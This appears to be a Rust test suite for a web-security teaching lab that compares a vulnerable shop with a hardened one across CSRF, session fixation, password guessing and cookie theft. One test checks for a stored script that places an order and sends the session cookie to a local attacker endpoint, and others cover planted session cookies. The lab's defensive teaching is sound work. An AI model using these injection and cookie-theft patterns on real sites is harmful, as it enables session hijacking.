//! Tests each defense where it acts: in the shop, on the pages or in the store.

use std::{cell::Cell, io, time::Duration};

use axum::{
    Router,
    body::Body,
    http::{HeaderMap, Request, StatusCode, header::SET_COOKIE},
};
use checks::{Answer, Browser, Form, Miss, Trial};
use futures_util::{future::join_all, stream};
use http_body_util::BodyExt;
use lesson_4::{
    app, app_with,
    defence::{
        Defence::{self, *},
        Defences,
        password::Passwords,
    },
    shop::{ACCOUNTS, Shop},
    shop_with,
};
use session_inspector::Inspector;
use tower::ServiceExt;
use tower_sessions::{MemoryStore, session::Id};

const MINUTE: Duration = Duration::from_secs(60);

/// A shop with only these defenses.
fn shop(defences: &[Defence]) -> Trial {
    let shop = Shop::new(Passwords::quick());
    let defences = Defences::none().and(defences);
    Trial::of(move |store| shop_with(defences.clone(), shop.clone(), store))
}

async fn log_in(who: &Browser<'_>, username: &str, password: &str) -> Result<Answer, Miss> {
    let token = token(who).await?;
    who.post("/login", &[("username", username), ("password", password), ("csrf", &token)]).await
}

async fn token(who: &Browser<'_>) -> Result<String, Miss> {
    let fields = who.get("/").await?.forms().into_iter().flat_map(|Form { fields, .. }| fields);
    Ok(fields.into_iter().find(|field| field.name == "csrf").map(|field| field.value).unwrap_or_default())
}

/// Requests one of the lesson's pages at this host.
async fn ask(lesson: Router, method: &str, host: &str, path: &str) -> (StatusCode, HeaderMap, String) {
    let request = Request::builder().method(method).uri(path).header("host", host).body(Body::empty()).unwrap();
    let (parts, body) = lesson.oneshot(request).await.unwrap().into_parts();
    let body = body.collect().await.unwrap().to_bytes();
    (parts.status, parts.headers, String::from_utf8(body.to_vec()).unwrap())
}

#[tokio::test]
async fn a_method_that_an_address_does_not_take_is_refused_with_the_reason() {
    for (method, path, sentence) in [
        ("GET", "/wish", "This address changes something, so a link does nothing here: use the form.\n"),
        ("POST", "/", "This address only shows a page, so a form does nothing here.\n"),
        ("OPTIONS", "/", "This address does not answer a request with OPTIONS.\n"),
    ] {
        let lesson = shop_with(Defences::none(), Shop::new(Passwords::quick()), MemoryStore::default());
        let (status, _, body) = ask(lesson, method, "localhost", path).await;
        assert_eq!((status, body.as_str()), (StatusCode::METHOD_NOT_ALLOWED, sentence), "{method} {path}");
    }
}

#[tokio::test]
async fn s14_to_s19_together_let_people_log_in() -> Result<(), Miss> {
    let trial = shop(&Defence::ALL);
    let alice = trial.browser("alice");
    log_in(&alice, "alice", "sunshine").await?.redirects_to("/")?;
    alice.get("/").await?.shows("Logged in as alice")
}

#[tokio::test]
async fn s14_a_request_with_the_old_id_is_served_for_thirty_seconds() -> Result<(), Miss> {
    let trial = shop(&[ServerSide, RenewOften]);
    let alice = trial.browser("alice");
    log_in(&alice, "alice", "sunshine").await?;
    alice.get("/").await?;
    let [tab, late] = ["another tab", "a late tab"].map(|tab| alice.copied_by(tab));
    trial.skip(16 * MINUTE);
    assert!(alice.get("/").await?.headers.contains_key(SET_COOKIE), "the ID is renewed");
    tab.post("/wish", &[("item", "a kite")]).await?.has_status(303)?;
    alice.get("/").await?.shows("a kite")?;
    trial.skip(MINUTE);
    late.get("/").await?.shows("You are not logged in")?;
    alice.get("/").await?.shows("Logged in as alice")
}

#[tokio::test]
async fn s14_of_two_requests_at_the_same_time_one_renews_the_id() -> Result<(), Miss> {
    let trial = shop(&[ServerSide, RenewOften]);
    let alice = trial.browser("alice");
    log_in(&alice, "alice", "sunshine").await?;
    alice.get("/").await?;
    let tab = alice.copied_by("another tab");
    trial.skip(16 * MINUTE);
    let renewed = Cell::new(false);
    let meanwhile = async { alice.get("/").await.map(|page| renewed.set(page.headers.contains_key(SET_COOKIE))) };
    let slow = tab.post_slowly("/buy", &[("item", "a slow boat")], meanwhile).await?;
    slow.has_status(303)?;
    assert_ne!(slow.headers.contains_key(SET_COOKIE), renewed.get(), "one of them, and only one");
    alice.get("/").await?.shows("Logged in as alice")?;
    tab.get("/").await?.shows("Logged in as alice")
}

#[tokio::test]
async fn s15_the_cookie_has_the_attributes_that_it_should_have() -> Result<(), Miss> {
    for (defences, attributes) in [
        (&[][..], "; SameSite=None; Secure; Path=/"),
        (&[HttpOnly], "; HttpOnly; SameSite=None; Secure; Path=/"),
        (&[HttpOnly, SameSite], "; HttpOnly; SameSite=Lax; Secure; Path=/"),
    ] {
        let trial = shop(defences);
        let answer = trial.browser("alice").post("/wish", &[("item", "a kite")]).await?;
        let cookie = answer.headers[SET_COOKIE].to_str().unwrap();
        assert!(cookie.starts_with("shop=") && cookie.ends_with(attributes), "{cookie}");
    }
    Ok(())
}

#[tokio::test]
async fn s08_a_guests_wishes_survive_one_login_and_a_users_wishes_survive_none() -> Result<(), Miss> {
    let trial = shop(&Defence::ALL);
    let browser = trial.browser("alice");
    let wish = async |item| -> Result<(), Miss> {
        let token = token(&browser).await?;
        browser.post("/wish", &[("item", item), ("csrf", &token)]).await?.has_status(303)
    };
    wish("a guest's kettle").await?;
    log_in(&browser, "alice", "sunshine").await?.redirects_to("/")?;
    wish("alice's secret").await?;
    let page = browser.get("/").await?;
    page.shows("alice's secret, a guest's kettle")?;
    // Alice is still logged in, so the page has no login form. Bob sends the fields of one.
    log_in(&browser, "bob", "a long walk home").await?.redirects_to("/")?;
    let page = browser.get("/").await?;
    page.shows("Logged in as bob")?;
    for hers in ["secret", "kettle"] {
        page.shows_not(hers, "bob reads what alice left")?;
    }
    // When bob logs in again over his own session, he keeps his data.
    wish("bob's hammer").await?;
    log_in(&browser, "bob", "a long walk home").await?.redirects_to("/")?;
    browser.get("/").await?.shows("bob's hammer")
}

#[tokio::test]
async fn s15_a_browser_obeys_the_removal_of_the_hardened_shops_cookie() -> Result<(), Miss> {
    let trial = shop(&Defence::ALL);
    let alice = trial.browser("alice");
    log_in(&alice, "alice", "sunshine").await?.redirects_to("/")?;
    assert!(alice.cookie("__Host-shop").is_some());
    let token = token(&alice).await?;
    alice.post("/logout", &[("csrf", &token)]).await?.redirects_to("/")?;
    assert_eq!(alice.cookie("__Host-shop"), None);
    Ok(())
}

#[tokio::test]
async fn s17_a_form_without_the_sessions_token_is_refused() -> Result<(), Miss> {
    let trial = shop(&[CsrfToken]);
    let (alice, mallory) = (trial.browser("alice"), trial.browser("mallory"));
    let before = token(&alice).await?;
    log_in(&alice, "alice", "sunshine").await?.redirects_to("/")?;
    let own = token(&alice).await?;
    assert_ne!(before, own, "a login makes the old token worthless");
    for wrong in ["", "a guess", &before, &token(&mallory).await?] {
        alice.post("/buy", &[("item", "a yacht"), ("csrf", wrong)]).await?.has_status(403)?;
    }
    alice.post("/buy", &[("item", "a yacht")]).await?.has_status(403)?;
    alice.post("/buy", &[("item", "a yacht"), ("csrf", &own)]).await?.has_status(303)
}

#[tokio::test]
async fn a_crowd_of_addresses_runs_into_the_accounts_limit() -> Result<(), Miss> {
    let trial = shop(&[Throttle]);
    let mallory = trial.browser("mallory");
    for guess in 0..100u8 {
        mallory.moves_to([10, 0, 0, guess].into(), "a bot");
        log_in(&mallory, "alice", "a guess").await?.has_status(401)?;
    }
    mallory.moves_to([10, 0, 1, 0].into(), "a bot");
    let refused = log_in(&mallory, "alice", "a guess").await?;
    refused.has_status(429)?;
    let wait: u32 = refused.headers["retry-after"].to_str().unwrap().parse().unwrap();
    assert!(wait <= 60, "{wait}");
    log_in(&mallory, "bob", "a guess").await?.has_status(401)?;
    trial.skip(MINUTE);
    log_in(&trial.browser("alice"), "alice", "sunshine").await?.redirects_to("/")
}

#[tokio::test]
async fn one_address_that_tries_many_accounts_runs_into_its_own_limit() -> Result<(), Miss> {
    let trial = shop(&[Throttle]);
    let mallory = trial.browser("mallory");
    for account in 0..20 {
        log_in(&mallory, &account.to_string(), "123456").await?.has_status(401)?;
    }
    log_in(&mallory, "alice", "123456").await?.has_status(429)?;
    let alice = trial.browser("alice");
    alice.moves_to([203, 0, 113, 4].into(), "alice's browser");
    log_in(&alice, "alice", "sunshine").await?.redirects_to("/")
}

#[tokio::test]
async fn a_right_password_is_not_counted() -> Result<(), Miss> {
    let trial = shop(&[Throttle]);
    for _ in 0..30 {
        log_in(&trial.browser("alice"), "alice", "sunshine").await?.redirects_to("/")?;
    }
    Ok(())
}

#[tokio::test]
async fn thirty_right_passwords_at_the_same_time_all_pass() -> Result<(), Miss> {
    let trial = shop(&[Throttle]);
    let tabs: Vec<_> = (0..30).map(|_| trial.browser("alice")).collect();
    for answer in join_all(tabs.iter().map(|tab| log_in(tab, "alice", "sunshine"))).await {
        answer?.redirects_to("/")?;
    }
    Ok(())
}

#[tokio::test]
async fn of_a_hundred_guesses_at_the_same_time_five_are_checked() -> Result<(), Miss> {
    let passwords = Passwords::quick();
    let shop = Shop::new(passwords.clone());
    let trial = Trial::of(move |store| shop_with(Defences::none().and(&[Throttle]), shop.clone(), store));
    let tabs: Vec<_> = (0..100).map(|_| trial.browser("mallory")).collect();
    let mut refused = 0;
    for answer in join_all(tabs.iter().map(|tab| log_in(tab, "alice", "a guess"))).await {
        refused += usize::from(answer?.status == 429);
    }
    assert_eq!((passwords.checked(), refused), (5, 95));
    Ok(())
}

#[tokio::test]
async fn an_attacker_with_many_addresses_does_not_lock_out_a_browser_that_is_known() -> Result<(), Miss> {
    let trial = shop(&[Throttle, DeviceCookie]);
    let [home, phone, mallory] = ["alice", "alice's new phone", "mallory"].map(|who| trial.browser(who));
    log_in(&home, "alice", "sunshine").await?.redirects_to("/")?;
    for guess in 0..120u8 {
        mallory.moves_to([10, 0, 0, guess / 5].into(), "a bot");
        log_in(&mallory, "alice", "a guess").await?;
    }
    log_in(&home, "alice", "sunshine").await?.redirects_to("/")?;
    // A browser in which the account was never logged in has no count of its own, as the book's page says.
    log_in(&phone, "alice", "sunshine").await?.has_status(429)
}

#[tokio::test]
async fn a_known_browser_has_five_guesses_of_its_own_for_its_account_alone() -> Result<(), Miss> {
    let trial = shop(&[Throttle, DeviceCookie]);
    let (alice, mallory) = (trial.browser("alice"), trial.browser("mallory"));
    log_in(&alice, "alice", "sunshine").await?.redirects_to("/")?;
    for _ in 0..5 {
        log_in(&alice, "alice", "a guess").await?.has_status(401)?;
    }
    log_in(&alice, "alice", "a guess").await?.has_status(429)?;
    // Mallory's device cookie does not count for alice's account.
    log_in(&mallory, "mallory", "mine, all mine").await?.redirects_to("/")?;
    for _ in 0..5 {
        log_in(&mallory, "alice", "a guess").await?.has_status(401)?;
    }
    log_in(&mallory, "alice", "a guess").await?.has_status(429)?;
    trial.skip(3 * MINUTE);
    log_in(&alice, "alice", "sunshine").await?.redirects_to("/")
}

#[tokio::test]
async fn no_name_and_no_password_is_longer_than_it_may_be() -> Result<(), Miss> {
    let trial = shop(&[Throttle, StepUp]);
    let alice = trial.browser("alice");
    for (name, password) in [("é".repeat(41), "?".to_owned()), ("alice".to_owned(), "é".repeat(129))] {
        let refused = log_in(&alice, &name, &password).await?;
        refused.has_status(422)?;
        assert!(refused.body.ends_with("characters.\n"), "{refused:?}");
    }
    // The longest name and password, with twelve bytes for each character in the form.
    log_in(&alice, &"🐈".repeat(40), &"🐈".repeat(128)).await?.has_status(401)?;
    log_in(&alice, "alice", "sunshine").await?;
    let form = [("email", "alice@home.example"), ("password", &"?".repeat(129))];
    alice.post("/email", &form).await?.has_status(422)
}

#[tokio::test]
async fn what_a_visitor_leaves_is_one_to_five_hundred_characters() -> Result<(), Miss> {
    let trial = shop(&[CsrfToken]);
    let alice = trial.browser("alice");
    log_in(&alice, "alice", "sunshine").await?;
    let token = token(&alice).await?;
    for (text, status) in [
        (String::new(), 422),
        ("🐈".repeat(500), 303), // six thousand bytes in the form
        ("🐈".repeat(501), 422),
        ("a".repeat(64 * 1024), 413),
    ] {
        alice.post("/note", &[("text", &text), ("csrf", &token)]).await?.has_status(status)?;
    }
    Ok(())
}

#[tokio::test]
async fn a_login_over_ones_own_session_keeps_what_is_in_it() -> Result<(), Miss> {
    let trial = shop(&[ServerSide, RenewAtLogin]);
    let alice = trial.browser("alice");
    log_in(&alice, "alice", "sunshine").await?;
    alice.post("/wish", &[("item", "a kite")]).await?;
    log_in(&alice, "alice", "sunshine").await?;
    alice.get("/").await?.shows("a kite")
}

#[tokio::test]
async fn only_an_admin_writes_the_banner_and_only_with_the_password_an_address_changes() -> Result<(), Miss> {
    let trial = shop(&[ServerSide, StepUp]);
    let [alice, carol, stranger] = ["alice", "carol", "a stranger"].map(|who| trial.browser(who));
    log_in(&alice, "alice", "sunshine").await?;
    log_in(&carol, "carol", "nine green bottles").await?;
    for browser in [&alice, &stranger] {
        browser.post("/banner", &[("text", "a sale")]).await?.has_status(403)?;
    }
    carol.post("/banner", &[("text", "a sale")]).await?.redirects_to("/")?;
    stranger.get("/").await?.shows("shop: a sale")?;
    stranger.post("/note", &[("text", "hello")]).await?.has_status(401)?;
    alice.post("/email", &[("email", "mallory@evil.example")]).await?.has_status(403)?;
    let before = alice.cookie("shop");
    alice.post("/email", &[("email", "alice@home.example"), ("password", "sunshine")]).await?.redirects_to("/")?;
    assert_eq!(alice.cookie("shop"), before, "without RenewAtLogin the ID stays");
    assert!(alice.get("/").await?.body.contains(r#"value="alice@home.example""#));
    Ok(())
}

#[tokio::test]
async fn a_thousand_years_later_people_still_log_in() -> Result<(), Miss> {
    let trial = shop(&[Throttle, DeviceCookie, ServerSide]);
    for _ in 0..900 {
        trial.skip(10 * 365 * 24 * 60 * MINUTE);
    }
    log_in(&trial.browser("mallory"), "alice", "a guess").await?.has_status(401)?;
    log_in(&trial.browser("alice"), "alice", "sunshine").await?.redirects_to("/")
}

#[tokio::test]
async fn the_password_that_is_asked_for_again_cannot_be_guessed_either() -> Result<(), Miss> {
    let trial = shop(&[StepUp, Throttle]);
    let alice = trial.browser("alice");
    log_in(&alice, "alice", "sunshine").await?;
    let fields = [("email", "mallory@evil.example"), ("password", "a guess")];
    for _ in 0..5 {
        alice.post("/email", &fields).await?.has_status(403)?;
    }
    alice.post("/email", &fields).await?.has_status(429)
}

#[tokio::test]
async fn the_password_asked_for_again_renews_the_id() -> Result<(), Miss> {
    let trial = shop(&Defence::ALL);
    let alice = trial.browser("alice");
    log_in(&alice, "alice", "sunshine").await?;
    let mallory = alice.copied_by("mallory");
    let token = token(&alice).await?;
    let fields = [("email", "alice@home.example"), ("password", "sunshine"), ("csrf", token.as_str())];
    alice.post("/email", &fields).await?.redirects_to("/")?;
    alice.get("/").await?.shows("Logged in as alice")?;
    mallory.get("/").await?.shows("You are not logged in")
}

/// Another tab writes the session while the form arrives, so the ID cannot be changed, and the address stays as it was.
#[tokio::test]
async fn where_the_id_cannot_be_renewed_the_address_is_not_changed() -> Result<(), Miss> {
    let trial = shop(&Defence::ALL);
    let alice = trial.browser("alice");
    log_in(&alice, "alice", "sunshine").await?;
    let (token, tab) = (token(&alice).await?, alice.copied_by("another tab"));
    let id = alice.cookie("__Host-shop");
    let meanwhile = async { tab.post("/wish", &[("item", "a kite"), ("csrf", &token)]).await?.redirects_to("/") };
    let fields = [("email", "alice@home.example"), ("password", "sunshine"), ("csrf", token.as_str())];
    alice.post_slowly("/email", &fields, meanwhile).await?.has_status(409)?;
    assert!(!alice.get("/").await?.body.contains("alice@home.example"));
    assert_eq!(alice.cookie("__Host-shop"), id);
    alice.post("/email", &fields).await?.redirects_to("/")?;
    assert!(alice.get("/").await?.body.contains("alice@home.example"));
    assert_ne!(alice.cookie("__Host-shop"), id);
    Ok(())
}

#[tokio::test]
async fn a_form_that_breaks_off_is_distinguished_from_one_that_is_too_long() {
    let broken = stream::iter([Ok("csrf=half"), Err(io::Error::from(io::ErrorKind::ConnectionReset))]);
    let shop = || shop_with(Defences::none().and(&[CsrfToken]), Shop::new(Passwords::quick()), MemoryStore::default());
    let send = async |body| {
        let answer = shop().oneshot(Request::post("/buy").body(body).unwrap()).await.unwrap();
        let (status, body) = (answer.status(), answer.into_body().collect().await.unwrap().to_bytes());
        (status.as_u16(), String::from_utf8(body.to_vec()).unwrap())
    };
    let (status, sentence) = send(Body::from_stream(broken)).await;
    assert_eq!((status, sentence.as_str()), (400, "The request broke off, so nothing was done.\n"));
    let (status, sentence) = send(Body::from("a".repeat(64 * 1024 + 1))).await;
    assert_eq!((status, sentence.as_str()), (413, "This form is too long, so nothing was done.\n"));
}

#[tokio::test]
async fn every_page_of_the_hardened_shop_says_what_the_browser_has_to_forbid() {
    for path in ["/", "/no/such/page"] {
        let (_, headers, _) = ask(app(MemoryStore::default()), "GET", "hardened.localhost", path).await;
        let policy = headers["content-security-policy"].to_str().unwrap();
        assert!(policy.starts_with("default-src 'none'; style-src 'sha256-"), "{policy}");
        assert!(policy.contains("frame-ancestors 'none'") && policy.contains("form-action 'self'"), "{policy}");
        assert_eq!(headers["x-content-type-options"], "nosniff");
        assert_eq!(headers["referrer-policy"], "same-origin");
        assert_eq!(headers["cache-control"], "no-store");
        assert_eq!(headers["cross-origin-opener-policy"], "same-origin");
        assert!(!headers.contains_key("strict-transport-security"), "without TLS it would lock everybody out");
    }
    let (_, headers, _) = ask(app_with(true, MemoryStore::default()), "GET", "hardened.localhost", "/").await;
    assert_eq!(headers["strict-transport-security"], "max-age=31536000; includeSubDomains");
}

/// The origin check runs before the session is loaded, and inside the layer that adds the headers.
#[tokio::test]
async fn a_form_of_another_site_is_refused_before_the_session_and_the_answer_has_the_headers() -> Result<(), Miss> {
    let trial = shop(&Defence::ALL);
    let alice = trial.browser("alice");
    log_in(&alice, "alice", "sunshine").await?.redirects_to("/")?;
    let refused = alice.post_from("http://neighbour.localhost", "/buy", &[("item", "a yacht")]).await?;
    refused.has_status(403)?;
    assert!(refused.body.contains("did not come from a page of this site"), "{refused:?}");
    assert!(refused.exchange.calls.is_empty(), "{refused:?}");
    assert!(!refused.headers.contains_key(SET_COOKIE), "{refused:?}");
    assert!(refused.headers.contains_key("content-security-policy"), "{refused:?}");
    Ok(())
}

/// The lesson behind its inspector.
fn served() -> (Inspector, Router) {
    let inspector = Inspector::default();
    let lesson = inspector.wrap(app(inspector.observe(MemoryStore::default())));
    (inspector, lesson)
}

/// Returns the first line of each cell of the lab's table.
fn cells(page: &str) -> Vec<&str> {
    page.split("<td>").skip(1).filter_map(|cell| cell.split('>').nth(1)?.split('<').next()).collect()
}

#[tokio::test]
async fn a_lab_runs_an_attack_on_the_chosen_shop_and_has_its_books_as_evidence() {
    let (_, lesson) = served();
    let at = |method: &'static str, path: &'static str| ask(lesson.clone(), method, "localhost:4004", path);
    let (_, _, before) = at("GET", "/attacks/csrf-by-form").await;
    assert!(before.contains("nothing has happened here yet") && !before.contains("The attack"), "{before}");
    let (status, headers, _) = at("POST", "/attacks/csrf-by-form?shop=vulnerable").await;
    assert_eq!(
        (status, headers["location"].to_str().unwrap()),
        (StatusCode::SEE_OTHER, "/attacks/csrf-by-form?shop=vulnerable")
    );
    let (_, _, page) = at("GET", "/attacks/csrf-by-form?shop=vulnerable").await;
    assert!(
        page.contains("The attack succeeded.") && page.contains("an honest visitor, was served after the attack"),
        "{page}"
    );
    assert!(page.contains("<mark>alice: a yacht</mark>."), "{page}");
    // The orders before the attack, after it, and after bob's visit.
    assert_eq!(cells(&page)[1..4], ["nothing", "alice: a yacht", "alice: a yacht"], "{page}");
    let (_, _, shop) = ask(lesson.clone(), "GET", "vulnerable.localhost:4004", "/").await;
    assert!(shop.contains("alice: a yacht") && shop.contains("bob: a teapot"), "{shop}");
    // The other shop and the other attacks have no verdict yet.
    for other in ["/attacks/csrf-by-form?shop=hardened", "/attacks/csrf-by-link?shop=vulnerable"] {
        let (_, _, page) = at("GET", other).await;
        assert!(!page.contains("id=\"verdict\""), "{other}: {page}");
    }
    at("POST", "/attacks/csrf-by-form?shop=hardened").await;
    let (_, _, page) = at("GET", "/attacks/csrf-by-form?shop=hardened").await;
    assert!(
        page.contains("The attack was blocked.") && page.contains("an honest visitor, was served after the attack"),
        "{page}"
    );
    assert!(page.contains("changed nothing in the shop's books"), "{page}");
    assert_eq!(cells(&page)[1..4], ["nothing", "nothing", "bob: a teapot"], "{page}");

    at("POST", "/attacks/csrf-by-form/reset?shop=vulnerable").await;
    let (_, _, page) = at("GET", "/attacks/csrf-by-form?shop=vulnerable").await;
    assert!(page.contains("nothing has happened here yet") && !page.contains("id=\"verdict\""), "{page}");
}

#[tokio::test]
async fn the_inspector_shows_an_attack_and_bobs_visit_after_it_with_the_sender_of_each_request() {
    let (inspector, lesson) = served();
    inspector.label("somebody else's cookie"); // makes the letters differ from those of the story
    ask(lesson, "POST", "localhost:4004", "/attacks/planted-id").await;
    let exchanges = inspector.exchanges();
    let by =
        |who: &str| exchanges.iter().filter(|exchange| exchange.visitor == who && exchange.retold.is_some()).count();
    assert_eq!((by("mallory"), by("alice"), by("bob")), (4, 2, 6), "{}", inspector.transcript());
    let told = inspector.transcript();
    for words in ["(An attack on the vulnerable shop: Plant a session ID", "(The attack succeeded.)"] {
        assert!(told.contains(words), "{words}: {told}");
    }
    assert!(!told.contains("times in a row"), "each step of this one is taken once: {told}");
    // The planted cookie has the same letter in the answer that set it and in the request that sends it.
    let planted = exchanges[1].response.set_cookies[0].label.clone();
    assert!(told.contains(&format!("(alice has cookie {planted}, planted by mallory)")), "{planted}: {told}");
    assert!(exchanges[2].request.cookies.iter().any(|cookie| cookie.label == planted), "{told}");
}

#[tokio::test]
async fn the_inspector_says_how_often_mallory_did_the_same() {
    let (inspector, lesson) = served();
    ask(lesson, "POST", "localhost:4004", "/attacks/guess-password").await;
    let told = inspector.transcript();
    assert!(told.contains("(mallory does that ") && told.contains(" times in a row)"), "{told}");
}

#[tokio::test]
async fn the_inspector_says_what_happened_without_a_visitor() {
    let (inspector, lesson) = served();
    ask(lesson, "POST", "localhost:4004", "/attacks/demoted").await;
    let told = inspector.transcript();
    assert!(told.contains("(carol is no longer an admin)"), "{told}");
}

#[tokio::test]
async fn the_start_page_leads_to_every_attack_and_to_the_hosts_beside_its_own() {
    for (host, vulnerable, evil) in [
        ("localhost", "vulnerable.localhost", "evil.localhost"),
        ("shop.localhost:4004", "vulnerable.shop.localhost:4004", "evil.localhost:4004"),
        ("127.0.0.1:4004", "vulnerable.localhost:4004", "evil.localhost:4004"),
    ] {
        let (_, _, page) = ask(app(MemoryStore::default()), "GET", host, "/").await;
        for other in [vulnerable, evil] {
            assert!(page.contains(&format!(r#"href="http://{other}/""#)), "{other}: {page}");
        }
        for attack in lesson_4::attack::ALL {
            assert!(page.contains(&format!(r#"<a href="/attacks/{}">"#, attack.id)), "{}: {page}", attack.id);
        }
    }
}

#[tokio::test]
async fn a_lab_leads_to_its_shop_to_mallorys_page_for_it_and_to_the_attacks_of_its_kind() {
    for (attack, page, other, another) in [
        ("csrf-by-form", "evil.localhost:4004/csrf-by-form", "csrf-by-link", "planted-id"),
        ("tossed-session", "evil.shop.localhost:4004/tossed-session", "planted-id", "csrf-by-link"),
    ] {
        for shop in ["vulnerable", "hardened"] {
            let path = format!("/attacks/{attack}?shop={shop}");
            let (_, _, lab) = ask(app(MemoryStore::default()), "GET", "shop.localhost:4004", &path).await;
            let lab = lab.replace("&#x2f;", "/"); // as a browser reads it
            let at = format!("{shop}.shop.localhost:4004");
            for link in [format!("http://{at}/"), format!("http://{page}?at={at}"), format!("/attacks/{other}")] {
                assert!(lab.contains(&format!(r#"href="{link}""#)), "{path} to {link}: {lab}");
            }
            assert!(!lab.contains(&format!(r#"href="/attacks/{another}""#)), "{path}: {lab}");
        }
    }
}

#[tokio::test]
async fn an_attack_begins_with_new_books_whatever_was_done_before() {
    let (_, lesson) = served();
    for _ in 0..2 {
        ask(lesson.clone(), "POST", "localhost:4004", "/attacks/guess-password?shop=hardened").await;
        let (_, _, page) = ask(lesson.clone(), "GET", "localhost:4004", "/attacks/guess-password?shop=hardened").await;
        assert!(
            page.contains("The attack was blocked.")
                && page.contains(
                    "an honest visitor, was served after the \
                                                                           attack"
                ),
            "{page}"
        );
    }
}

#[tokio::test]
async fn all_attacks_can_be_run_and_an_unknown_one_gets_a_list_of_them() {
    let lesson = app(MemoryStore::default());
    let (status, _, sentence) = ask(lesson.clone(), "GET", "localhost:4004", "/attacks/none-such").await;
    assert_eq!(status, StatusCode::NOT_FOUND);
    assert!(sentence.starts_with("There is no attack \"none-such\"; there are: read-cookie, "), "{sentence}");
    let (_, _, all) = ask(lesson, "POST", "localhost:4004", "/attacks").await;
    let count = |words| all.matches(words).count();
    let attacks = lesson_4::attack::ALL.len();
    assert_eq!((count(">succeeded<"), count(">blocked<"), count("not served")), (attacks, attacks, 0), "{all}");
}

#[tokio::test]
async fn mallorys_pages_cannot_attack_other_machines() {
    let lesson = app(MemoryStore::default());
    for at in ["", "?at=shop.example", "?at=localhost.example", "?at=a%20b.localhost", "?at=x%22.localhost"] {
        let (status, _, sentence) = ask(lesson.clone(), "GET", "evil.localhost", &format!("/csrf-by-form{at}")).await;
        assert_eq!(status, StatusCode::BAD_REQUEST, "{at}: {sentence}");
    }
    let (status, _, page) = ask(lesson, "GET", "evil.localhost", "/csrf-by-form?at=vulnerable.localhost:4004").await;
    assert_eq!(status, StatusCode::OK);
    assert!(page.contains(r#"action="http://vulnerable.localhost:4004/buy""#), "{page}");
    assert!(ACCOUNTS.iter().any(|(name, ..)| *name == "mallory"));
}

#[tokio::test]
async fn mallorys_note_buys_a_yacht_and_sends_the_cookie_to_the_site_that_wrote_it() {
    let lesson = app(MemoryStore::default());
    let (status, headers, _) =
        ask(lesson.clone(), "POST", "evil.localhost:4004", "/notes?at=vulnerable.localhost:4004").await;
    assert_eq!(
        (status, headers["location"].to_str().unwrap()),
        (StatusCode::SEE_OTHER, "http://vulnerable.localhost:4004/")
    );
    let script = ["<script>", "item: 'a yacht'", "http://evil.localhost:4004/collect?cookie="];
    for (shop, is_a_script) in [("vulnerable.localhost:4004", true), ("hardened.localhost:4004", false)] {
        let (_, _, page) = ask(lesson.clone(), "GET", shop, "/").await;
        assert!(page.contains("Nice shop!"), "{page}");
        assert_eq!(script.iter().all(|part| page.contains(part)), is_a_script, "{page}");
    }
}

#[tokio::test]
async fn a_page_beside_the_shops_sets_its_cookies_for_all_of_them() {
    let lesson = app(MemoryStore::default());
    let id = Id::default().to_string();
    let toss = async |id: &str| {
        let form = Request::post("/tossed-session?at=vulnerable.shop.localhost:4004")
            .header("host", "evil.shop.localhost:4004")
            .header("content-type", "application/x-www-form-urlencoded")
            .body(Body::from(format!("id={id}")))
            .unwrap();
        lesson.clone().oneshot(form).await.unwrap()
    };
    let tossed = toss(&id).await;
    let cookies: Vec<_> = tossed.headers().get_all(SET_COOKIE).iter().map(|set| set.to_str().unwrap()).collect();
    // For a server that decodes names, the third name is the same as the second. For a browser it is not.
    let expected = ["shop", "__Host-shop", "%5F_Host-shop"]
        .map(|name| format!("{name}={id}; Domain=shop.localhost; Path=/; Secure"));
    assert_eq!(cookies, expected);
    assert_eq!(tossed.headers()["location"], "http://vulnerable.shop.localhost:4004/");
    assert_eq!(toss("no-id").await.status(), StatusCode::BAD_REQUEST);
}

#[tokio::test]
async fn mallorys_site_keeps_the_first_twenty_cookies_and_forgets_them_when_asked() {
    let lesson = app(MemoryStore::default());
    let send = async |cookie: &str| {
        let (status, ..) = ask(lesson.clone(), "GET", "evil.localhost", &format!("/collect?cookie={cookie}")).await;
        assert_eq!(status, StatusCode::NO_CONTENT);
    };
    let loot = async || ask(lesson.clone(), "GET", "evil.localhost", "/").await.2.matches("<pre>").count();
    send("").await;
    assert_eq!(loot().await, 0);
    for number in 0..21 {
        send(&format!("shop%3D{number}")).await;
    }
    assert_eq!(loot().await, 20);
    let (status, ..) = ask(lesson.clone(), "POST", "evil.localhost", "/forget").await;
    assert_eq!((status, loot().await), (StatusCode::SEE_OTHER, 0));
}

#[tokio::test]
async fn a_shop_shows_what_was_ordered() -> Result<(), Miss> {
    let trial = shop(&[]);
    let alice = trial.browser("alice");
    log_in(&alice, "alice", "sunshine").await?.redirects_to("/")?;
    alice.post("/buy", &[("item", "a diary")]).await?.redirects_to("/")?;
    alice.get("/").await?.shows("alice: a diary")
}

#[tokio::test]
async fn the_shops_are_at_their_hosts_and_nowhere_else() {
    for (host, is_shop) in
        [("localhost", false), ("evil.localhost", false), ("vulnerable.localhost", true), ("hardened.localhost", true)]
    {
        let (status, _, page) = ask(app(MemoryStore::default()), "GET", host, "/").await;
        assert_eq!((status.as_u16(), page.contains("You are not logged in")), (200, is_shop), "{host}");
    }
}
